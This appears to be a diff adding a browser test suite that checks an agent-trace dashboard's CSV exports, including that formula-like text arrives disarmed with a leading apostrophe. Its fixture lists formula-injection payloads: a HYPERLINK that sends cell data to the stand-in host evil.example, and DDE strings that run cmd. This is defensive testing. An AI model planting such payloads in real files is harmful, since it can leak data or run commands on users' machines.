@@ -1,0 +1,140 @@
+""" "Export CSV" clicked in headless Chromium: the file downloaded is what the table
+shows (every page of it), and text that looks like a formula arrives disarmed."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from playwright.sync_api import Page
+
+from tests.agent_runs import Run, send_runs
+from tests.browser import Watched
+from tests.csv_files import FORMULA_STARTS, run_suite, table
+from tests.demo_data import Loaded, load_demo
+from tests.server import Server
+
+PROJECT = "csv-browser"
+HOSTILE = "csv-hostile"
+SUITE = """\
+name: {name}
+select: {{project: {project}}}
+evaluators:
+  - step_budget: {{max_steps: {steps}}}
+"""
+# (text an agent's run carried, as a spreadsheet must read it back)
+FORMULAS = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ('quote " comma , newline \n end', 'quote " comma , newline \n end'),
+    ("Grüße 👋 日本語", "Grüße 👋 日本語"),
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def demo(server: Server) -> Loaded:
+    return load_demo(server, PROJECT, traces=80, seed=31)
+
+
+@pytest.fixture(scope="module")
+def hostile(server: Server) -> dict[str, Any]:
+    """Agent runs whose question, answer and tool result are each formula text, and a
+    suite run over them (its scores name the traces)."""
+    runs = [Run(question=text, answer=text, tool_result=text) for text, _ in FORMULAS]
+    trace_ids = send_runs(server, HOSTILE, runs, agent="=1+2")
+    run = run_suite(server, SUITE.format(name="hostile", project=HOSTILE, steps=1))
+    return {"trace_ids": trace_ids, "run": run}
+
+
+def click_download(page: Page, selector: str, tmp_path: Path) -> bytes:
+    with page.expect_download() as info:
+        page.click(selector)
+    target = tmp_path / info.value.suggested_filename
+    info.value.save_as(target)
+    assert target.suffix == ".csv"
+    return target.read_bytes()
+
+
+def test_the_traces_table_exports_what_it_selects(
+    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
+) -> None:
+    page = watched.page
+    page.goto(f"{server.url}/traces?project={PROJECT}&agent=support&sort=duration&limit=20")
+    shown = [
+        (link.get_attribute("href") or "").split("/traces/")[1][:32]
+        for link in page.locator("table a.trace-link").all()
+    ]
+    rows = table(click_download(page, "a.csv-link", tmp_path))
+    assert len(shown) == 20 and [row["trace_id"] for row in rows[:20]] == shown
+    wanted = sum(t.agent == "support" for t in demo.summary.traces)
+    assert len(rows) == wanted and {row["agent_name"] for row in rows} == {"support"}
+    watched.assert_clean()
+
+
+def test_a_runs_results_export_what_the_filtered_table_shows(
+    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
+) -> None:
+    run = run_suite(server, SUITE.format(name="browser", project=PROJECT, steps=6))
+    page = watched.page
+    page.goto(f"{server.url}/evals/runs/{run['id']}?evaluator=step_budget&failed=1")
+    shown = [
+        (link.get_attribute("href") or "").split("/traces/")[1][:32]
+        for link in page.locator("table.eval-results a.trace-link").all()
+    ]
+    assert shown
+    rows = table(click_download(page, "a.results-csv", tmp_path))
+    assert [row["trace_id"] for row in rows] == shown
+    assert {(row["evaluator"], row["passed"]) for row in rows} == {("step_budget", "false")}
+    summary = table(click_download(page, "a.summary-csv", tmp_path))
+    assert [row["evaluator"] for row in summary] == ["step_budget"]
+    assert int(summary[0]["failed"]) == len(shown)
+    everything = table(click_download(page, "a.report-scores-csv", tmp_path))
+    assert len(everything) == run["selection_size"] > len(shown)
+    watched.assert_clean()
+
+
+def test_the_compare_tables_export(
+    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
+) -> None:
+    page = watched.page
+    page.goto(f"{server.url}/compare?project={PROJECT}&a.agent_version=1.4&b.agent_version=1.5")
+    shown = [row.get_attribute("data-metric") for row in page.locator("tr.metric").all()]
+    rows = table(click_download(page, "a.compare-csv", tmp_path))
+    assert [row["name"] for row in rows if row["section"] == "metric"] == shown
+    watched.assert_clean()
+
+
+def test_formula_text_arrives_disarmed(
+    server: Server, hostile: dict[str, Any], watched: Watched, tmp_path: Path
+) -> None:
+    """Parsed back as a spreadsheet reads the file: no cell starts like a formula,
+    and every text is there, with the apostrophe that disarms it."""
+    page = watched.page
+    page.goto(f"{server.url}/traces?project={HOSTILE}")
+    traces = {row["trace_id"]: row for row in table(click_download(page, "a.csv-link", tmp_path))}
+    by_trace = dict(zip(hostile["trace_ids"], FORMULAS, strict=True))
+    assert set(traces) == set(by_trace)
+    for trace_id, (_, expected) in by_trace.items():
+        row = traces[trace_id]
+        assert (row["input"], row["output"], row["agent_name"]) == (expected, expected, "'=1+2")
+    page.goto(f"{server.url}/traces/{hostile['trace_ids'][0]}?project={HOSTILE}")
+    spans = table(click_download(page, "a.spans-csv", tmp_path))
+    tool = next(row for row in spans if row["kind"] == "tool")
+    assert tool["tool_result"] == FORMULAS[0][1]
+    run = hostile["run"]
+    scores_csv = httpx.get(f"{server.url}/api/eval-runs/{run['id']}/scores.csv").content
+    scores = table(scores_csv)
+    assert len(scores) == len(FORMULAS) and {row["trace_name"] for row in scores} == {
+        "invoke_agent =1+2"
+    }
+    for rows in (list(traces.values()), spans, scores):
+        for row in rows:
+            for column, value in row.items():
+                assert not value.startswith(FORMULA_STARTS), (column, value)
+    watched.assert_clean()
